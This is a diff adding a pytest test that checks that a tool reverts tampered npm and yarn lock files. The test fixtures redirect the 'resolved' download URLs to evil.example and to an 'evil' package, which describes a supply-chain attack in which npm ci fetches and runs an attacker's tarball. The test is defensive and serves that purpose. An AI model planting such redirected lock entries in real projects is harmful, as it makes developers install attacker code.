@@ -86,3 +86,33 @@ def test_the_gyp_files_a_binding_gyp_includes_or_depends_on_stay_and_a_new_one_g
     assert [(workspace / n).read_text() for n in kept] == [texts[n] for n in kept]
     assert not (workspace / "inc" / "new.gypi").exists()
     assert (workspace / "build" / "config.gypi").read_text() == "{'variables': {}}\n"
+
+
+def _lock(url: str) -> str:
+    return json.dumps({"name": "app", "lockfileVersion": 3, "packages": {
+        "": {"name": "app", "dependencies": {"lodash": "^4.17.21"}},
+        "node_modules/lodash": {"version": "4.17.21", "resolved": url, "integrity": "sha512-x"}}}, indent=2)
+
+
+def test_a_lock_file_moved_to_another_host_or_tarball_is_set_back_and_a_registry_update_stays(
+    run_cli: RunCli, script: Callable[[list[Any]], str], workspace: Path
+) -> None:
+    """D12's locks: ``npm ci`` downloads what ``resolved`` says and runs its install scripts."""
+    require_sandbox()
+    real = "https://registry.npmjs.org/lodash/-/lodash-4.17.21.tgz"
+    yarned = real.replace("npmjs.org", "yarnpkg.com")
+    yarn = f'lodash@^4.17.21:\n  version "4.17.21"\n  resolved "{yarned}#ab"\n'
+    texts = {"package-lock.json": _lock(real), "a/package-lock.json": _lock(real), "yarn.lock": yarn,
+             "b/package-lock.json": _lock(real), "c/package.json": PACKAGE}
+    committed(workspace, texts)
+    run(run_cli, script, planted({
+        "package-lock.json": _lock("https://evil.example/lodash/-/lodash-4.17.21.tgz"),
+        "a/package-lock.json": _lock("https://registry.npmjs.org/evil/-/evil-1.0.0.tgz"),
+        "yarn.lock": yarn.replace("registry.yarnpkg.com", "evil.example"),
+        "b/package-lock.json": _lock(real.replace("4.17.21", "4.17.22")).replace("4.17.21", "4.17.22"),
+        "c/package-lock.json": _lock(real),
+    }))
+    for name in ("package-lock.json", "a/package-lock.json", "yarn.lock"):
+        assert (workspace / name).read_text() == texts[name], name
+    assert "4.17.22" in (workspace / "b" / "package-lock.json").read_text()  # npm update: kept
+    assert (workspace / "c" / "package-lock.json").read_text() == _lock(real)  # a new one from the registry
